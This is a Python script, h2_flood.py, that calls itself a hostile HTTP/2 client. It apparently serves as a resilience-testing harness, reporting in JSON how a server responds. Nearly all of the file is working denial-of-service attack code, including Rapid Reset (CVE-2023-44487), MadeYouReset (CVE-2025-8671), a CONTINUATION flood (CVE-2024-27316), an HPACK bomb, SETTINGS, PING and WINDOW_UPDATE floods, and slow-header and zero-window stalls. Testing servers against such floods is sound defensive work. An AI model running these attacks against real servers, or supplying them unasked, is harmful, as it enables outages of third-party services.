# SPDX-License-Identifier: Apache-2.0
"""h2_flood.py ATTACK ADDRESS HOST [SECONDS] - one hostile client of HTTP/2

Says in JSON how it ended: the code of a GOAWAY, whether the connection was
closed, the resets by code, the answers by status, and how long it took.
"""
import collections
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

import hpack

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONT = range(10)
ATTACK, ADDRESS, HOST = sys.argv[1:4]
SECONDS = float(sys.argv[4]) if len(sys.argv) > 4 else 8
STREAMS = int(os.environ.get("STREAMS", 100))
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MANY = 100_000


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(method="GET", path="/ok", more=()):
    """Never indexed: the same bytes for every stream."""
    fields = [(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path)]
    return b"".join(b"\x10" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode()
                    for n, v in fields + list(more))


class Client:
    def __init__(self):
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection((ADDRESS, 443), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        # one thread reads and another writes, which OpenSSL allows only in turn
        self.inward, self.outward, self.lock = ssl.MemoryBIO(), ssl.MemoryBIO(), threading.Lock()
        self.sock, self.tls = raw, context.wrap_bio(self.inward, self.outward, server_hostname=HOST)
        self.shake()
        assert self.tls.selected_alpn_protocol() == "h2"
        raw.settimeout(None)
        self.start, self.goaway, self.ended = time.monotonic(), None, None
        self.resets, self.status = collections.Counter(), collections.Counter()
        self.frames, self.sent, self.data = collections.Counter(), 0, 0
        self.decoder, self.quiet = hpack.Decoder(), False

    def shake(self):
        while True:
            try:
                self.tls.do_handshake()
                self.sock.sendall(self.outward.read())
                return
            except ssl.SSLWantReadError:
                self.sock.sendall(self.outward.read())
                self.inward.write(self.sock.recv(65536))

    def send(self, data):
        with self.lock:
            self.tls.write(data)
            secret = self.outward.read()
        self.sock.sendall(secret)
        self.sent += len(data)

    def receive(self):
        while True:
            with self.lock:
                try:
                    return self.tls.read(65536)
                except ssl.SSLWantReadError:
                    pass
                except ssl.SSLZeroReturnError:
                    return b""
            secret = self.sock.recv(65536)
            if not secret:
                return b""
            with self.lock:
                self.inward.write(secret)

    def begin(self, settings=b""):
        self.send(PREFACE + frame(SETTINGS, payload=settings))
        threading.Thread(target=self.read, daemon=True).start()
        end = time.monotonic() + 5
        while not self.frames[SETTINGS] and time.monotonic() < end:
            time.sleep(0.001)
        self.send(frame(SETTINGS, 1))

    def read(self):
        data = b""
        try:
            while not self.quiet:
                while len(data) < 9 or len(data) < 9 + int.from_bytes(data[:3], "big"):
                    more = self.receive()
                    if not more:
                        raise EOFError
                    data += more
                size = int.from_bytes(data[:3], "big")
                self.on(data[3], data[4], int.from_bytes(data[5:9], "big"), data[9:9 + size])
                data = data[9 + size:]
        except (OSError, EOFError):
            self.ended = time.monotonic() - self.start

    def on(self, kind, flags, stream, payload):
        self.frames[kind] += 1
        if kind == GOAWAY and self.goaway is None:
            code = int.from_bytes(payload[4:8], "big")
            if code or int.from_bytes(payload[:4], "big") != 0x7fffffff:
                self.goaway = code
        elif kind == RST:
            self.resets[int.from_bytes(payload, "big")] += 1
        elif kind == DATA:
            self.data += len(payload)
        elif kind == HEADERS:
            for name, value in self.decoder.decode(payload):
                if name == ":status":
                    self.status[value] += 1

    def live(self):
        return self.ended is None and time.monotonic() - self.start < SECONDS

    def wait(self):
        while self.live():
            time.sleep(0.02)

    def report(self):
        print(json.dumps({"goaway": self.goaway, "closed": self.ended is not None,
                          "seconds": self.ended or time.monotonic() - self.start,
                          "resets": self.resets, "status": self.status, "sent": self.sent,
                          "data": self.data}), flush=True)


def rapid_reset(c):
    """CVE-2023-44487."""
    for i in range(MANY):
        if not c.live():
            return
        c.send(frame(HEADERS, 5, 2 * i + 1, head(path="/slow/1")) +
               frame(RST, 0, 2 * i + 1, b"\0\0\0\x08"))


def made_you_reset(c):
    """CVE-2025-8671: requests that run, and an error that makes the server reset them."""
    for i in range(MANY):
        if not c.live():
            return
        c.send(frame(HEADERS, 5, 2 * i + 1, head(path="/slow/1")) +
               frame(WINDOW, 0, 2 * i + 1, b"\0\0\0\0"))


def made_you_reset_window(c):
    for i in range(MANY):
        if not c.live():
            return
        c.send(frame(HEADERS, 5, 2 * i + 1, head(path="/slow/1")) +
               frame(WINDOW, 0, 2 * i + 1, b"\x7f\xff\xff\xff") * 2)


def continuation(c):
    """CVE-2024-27316."""
    c.send(frame(HEADERS, 1, 1, head()))
    for i in range(MANY):
        if not c.live():
            return
        c.send(frame(CONT, 0, 1, b"\x10\x01a" + b"\x7f\x81\x7f" + b"v" * 16000))


def continuation_empty(c):
    c.send(frame(HEADERS, 1, 1, head()))
    flood(c, frame(CONT, 0, 1))


def flood(c, data, each=1000):
    for i in range(MANY // each * 10):
        if not c.live():
            return
        c.send(data * each)


def settings(c):
    flood(c, frame(SETTINGS, payload=struct.pack(">HI", 4, 65535)))


def settings_large(c):
    """Every one of them means work: a table size that goes up and down."""
    flood(c, frame(SETTINGS, payload=struct.pack(">HI", 1, 0) + struct.pack(">HI", 1, 4096)), 100)


def settings_ack(c):
    flood(c, frame(SETTINGS, 1))


def ping(c):
    flood(c, frame(PING, payload=b"12345678"))


def ping_unread(c):
    """Answers that nobody reads."""
    c.quiet = True
    flood(c, frame(PING, payload=b"12345678"))


def priority(c):
    flood(c, frame(PRIORITY, 0, 3, b"\0\0\0\0\x10"))


def unknown(c):
    flood(c, frame(0x42, 0, 0, b"x"))


def window(c):
    flood(c, frame(WINDOW, 0, 0, b"\0\0\0\x01"))


def empty_data(c):
    c.send(frame(HEADERS, 4, 1, head("POST", "/slow/1")))
    flood(c, frame(DATA, 0, 1))


def padded_data(c):
    c.send(frame(HEADERS, 4, 1, head("POST", "/slow/1")))
    flood(c, frame(DATA, 8, 1, b"\x00"))


def tiny_data(c):
    """A byte in a frame is not forbidden, but not for ever and at any speed."""
    c.send(frame(HEADERS, 4, 1, head("POST", "/slow/1")))
    flood(c, frame(DATA, 0, 1, b"x"))


def hpack_bomb(c):
    """A large entry of the table, then a byte for each use of it."""
    big = b"\x40\x01a" + b"\x7f\x81\x1e" + b"v" * 4000
    for i in range(MANY):
        if not c.live():
            return
        c.send(frame(HEADERS, 5, 2 * i + 1, head() + (big if not i else b"") + b"\xbe" * 12000))


def large_heads(c):
    """Each a little over the limit: answered, then enough of it."""
    field = b"\x10\x01a\x7f\x81\x7c" + b"v" * 16000
    for i in range(MANY):
        if not c.live():
            return
        c.send(frame(HEADERS, 1, 2 * i + 1, head()))
        for n in range(5):
            c.send(frame(CONT, 4 if n == 4 else 0, 2 * i + 1, field))


def over_the_limit(c):
    """1,000 streams more than may be."""
    c.send(b"".join(frame(HEADERS, 5, 2 * i + 1, head(path="/slow/2")) for i in range(1100)))
    c.wait()


def zero_window(c):
    """Answers that may not be sent."""
    c.send(b"".join(frame(HEADERS, 5, 2 * i + 1, head(path="/big/1000000")) for i in range(STREAMS)))
    c.wait()


def zero_window_small(c):
    """Answers that are complete, and may not be sent."""
    c.send(b"".join(frame(HEADERS, 5, 2 * i + 1, head(path="/big/30000")) for i in range(100)))
    c.wait()


def slow_head(c):
    """A byte of a head now and then."""
    block = head(more=[("x-slow", "v" * 100)])
    c.send(frame(HEADERS, 5, 1, block)[:30])
    for byte in block[21:]:
        if not c.live():
            return
        c.send(bytes([byte]))
        time.sleep(0.3)


def slow_continuation(c):
    c.send(frame(HEADERS, 1, 1, head()))
    c.wait()


def slow_head_beside(c):
    """The same beside a stream that runs."""
    c.send(frame(HEADERS, 5, 1, head(path="/hang")))
    c.send(frame(HEADERS, 1, 3, head()))
    c.wait()


def slow_body(c):
    c.send(frame(HEADERS, 4, 1, head("POST", "/ok")))
    c.wait()


def silent(c):
    c.wait()


def half_preface(c):
    c.wait()


def pings_only(c):
    """Never a request, but not silent either."""
    while c.live():
        c.send(frame(PING, payload=b"12345678"))
        time.sleep(0.2)


def unread_uploads(c):
    """As much as the windows take, to an origin that reads nothing."""
    c.send(b"".join(frame(HEADERS, 4, 2 * i + 1, head("POST", "/unread")) for i in range(100)))
    time.sleep(0.5)
    for _ in range(64):  # one window's worth to each
        c.send(b"".join(frame(DATA, 0, 2 * i + 1, b"x" * 4096) for i in range(100)))
    c.wait()


client = Client()
if ATTACK == "half_preface":
    client.send(PREFACE[:10])
    threading.Thread(target=client.read, daemon=True).start()
else:
    client.begin(struct.pack(">HI", 4, 0) if ATTACK.startswith("zero_window") else b"")
try:
    globals()[ATTACK](client)
    client.wait()
except OSError:
    end = time.monotonic() + 2
    while client.ended is None and time.monotonic() < end:
        time.sleep(0.02)
    client.ended = client.ended or time.monotonic() - client.start
client.report()
os._exit(0)
